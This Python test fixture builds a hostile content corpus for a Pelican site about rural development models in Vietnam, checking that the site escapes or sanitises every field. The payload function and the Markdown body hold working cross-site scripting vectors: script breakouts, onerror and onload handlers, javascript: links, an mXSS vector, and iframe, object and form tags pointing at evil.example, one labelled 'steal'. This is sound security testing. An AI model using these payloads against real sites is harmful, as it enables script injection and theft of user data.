"""A hostile corpus: every free-text field of every content type carries a payload.

Each payload, if a browser ever ran it, calls ``__pwn("<field>")`` (the browser test defines that
function before any page script and collects the calls) or loads something from ``evil.example`` (the
browser test records every request leaving the local server). Where the site shows a field as text,
the payload must be shown literally: ``LITERAL`` (the visible part) is what the tests look for.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]


def payload(field: str) -> str:
    """Text that breaks out of an attribute, a tag, a script and a title, then runs ``__pwn(field)``."""
    return (f"PWN[{field}] \"'><svg onload=__pwn('{field}')><img src=x onerror=__pwn('{field}')>"
            f"</title></textarea></script><script>__pwn('{field}')</script>"
            f"<iframe src=https://evil.example/{field}></iframe>&lt;b&gt;")


def short_payload(field: str) -> str:
    """For fields that become addresses and are kept short (category, tag, author): the same opening."""
    return literal(field) + "<b>"


def literal(field: str) -> str:
    """What a reader must see where the field is shown as text (its start, as the browser renders it)."""
    return f"PWN[{field}] \"'><svg onload=__pwn('{field}')>"


MARKDOWN_BODY = """Đoạn mở đầu bình thường của bài.

<script>__pwn('body-script')</script>
<img src="https://evil.example/x.png" onerror="__pwn('body-onerror')">
<iframe src="https://evil.example/frame"></iframe>
<a href="javascript:__pwn('body-js-link')">liên kết lạ</a>
[liên kết Markdown](javascript:__pwn('body-md-link'))
<svg><script>__pwn('body-svg')</script></svg>
<div style="background:url(https://evil.example/bg.png)" onclick="__pwn('body-click')">khối có kiểu</div>
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/steal"><input name="q"></form>
<math><mtext><table><mglyph><style><img src=x onerror=__pwn('body-mxss')></style></mglyph></table></mtext></math>

| Cột | <span onmouseover="__pwn('body-table')">Ô</span> |
| --- | --- |
| 1 | 2 |

Đoạn cuối vẫn phải hiện ra: CÒN NGUYÊN.
"""


def _dump(data) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)


def write_hostile_site(root: Path) -> Path:
    """Write the hostile project under ``root`` (content/, data/) and return ``root``."""
    (root / "content" / "tin-tuc").mkdir(parents=True)
    (root / "content" / "van-ban").mkdir(parents=True)
    (root / "content" / "trang").mkdir(parents=True)
    (root / "data" / "models" / "dak-nong").mkdir(parents=True)
    (root / "data" / "reports").mkdir(parents=True)

    fields = yaml.safe_load((ROOT / "data" / "fields.yaml").read_text(encoding="utf-8"))
    fields["fields"][0]["name"] = "Kinh tế " + payload("field.name")
    fields["fields"][0]["description"] = payload("field.description")
    fields["fields"][0]["topics"][0]["name"] = "Nông thôn " + payload("topic.name")
    (root / "data" / "fields.yaml").write_text(_dump(fields), encoding="utf-8")

    record = {
        "name": payload("name"),
        "kind": "collective",
        "owner": payload("owner"),
        "field": "economy",
        "topics": ["new-countryside"],
        "province": "Đắk Nông",
        "locality": payload("locality"),
        "registered": 2022,
        "recognized": {"year": 2023, "level": "province"},
        "status": "recognized",
        "summary": payload("summary"),
        "description": MARKDOWN_BODY,
        "results": [{"label": payload("results.label"), "value": 12, "unit": payload("results.unit")}],
        "sources": [{"title": payload("sources.title"), "url": "https://baodaknong.vn/bai-viet?a=1&b=2",
                     "date": "2024-07-22"}],
        "featured": True,
    }
    (root / "data" / "models" / "dak-nong" / "mo-hinh-doc.yaml").write_text(_dump(record), encoding="utf-8")
    plain = {**record, "name": "Mô hình bình thường", "owner": "Xã Quảng Sơn", "summary": "Tóm tắt bình thường.",
             "description": None, "results": None, "sources": None, "locality": None}
    (root / "data" / "models" / "dak-nong" / "mo-hinh-thuong.yaml").write_text(
        _dump({k: v for k, v in plain.items() if v is not None}), encoding="utf-8")

    report = {
        "title": payload("report.title"),
        "scope": {"province": "Đắk Nông", "unit": payload("report.unit")},
        "period": {"from": 2023, "to": 2024},
        "totals": {"recognized": 40, "registered": 265},
        "source": {"title": payload("report.source"), "url": "https://baodaknong.vn/x", "post": "bai-doc"},
        "note": payload("report.note"),
    }
    (root / "data" / "reports" / "bao-cao-doc.yaml").write_text(_dump(report), encoding="utf-8")

    post = {
        "title": "Bài " + payload("post.title"),
        "slug": "bai-doc",
        "date": "2024-07-22 09:40",
        "category": "Chuyên mục " + short_payload("post.category"),
        "tags": ["Thẻ " + short_payload("post.tag")],
        "author": "Tác giả " + short_payload("post.author"),
        "summary": payload("post.summary"),
        "source": payload("post.source"),
        "source_url": "https://baodaknong.vn/bai?x=1&y=2",
        "province": "Đắk Nông",
        "models": ["mo-hinh-doc"],
    }
    (root / "content" / "tin-tuc" / "bai-doc.md").write_text(f"---\n{_dump(post)}---\n\n{MARKDOWN_BODY}",
                                                            encoding="utf-8")

    document = {
        "number": "12-CV/" + payload("doc.number")[:40],
        "doc_type": "Công văn",
        "issuer": payload("doc.issuer"),
        "parent": payload("doc.parent"),
        "place": payload("doc.place"),
        "date": "2024-07-22",
        "subject": payload("doc.subject"),
        "recipients": [payload("doc.recipients")],
        "cc": [payload("doc.cc")],
        "signer": payload("doc.signer"),
        "signer_role": payload("doc.signer_role"),
        "on_behalf": payload("doc.on_behalf"),
        "system": "party",
        "slug": "van-ban-doc",
    }
    (root / "content" / "van-ban" / "van-ban-doc.md").write_text(f"---\n{_dump(document)}---\n\n{MARKDOWN_BODY}",
                                                                 encoding="utf-8")
    page = {"title": "Trang " + payload("page.title"), "slug": "gioi-thieu"}
    (root / "content" / "trang" / "gioi-thieu.md").write_text(f"---\n{_dump(page)}---\n\n{MARKDOWN_BODY}",
                                                              encoding="utf-8")
    return root


def copy_project_code(root: Path) -> None:
    """The theme, plugins and settings beside a test project (for commands run as a separate project)."""
    for name in ("theme", "plugins"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "pelican.conf.py", root / "pelican.conf.py")
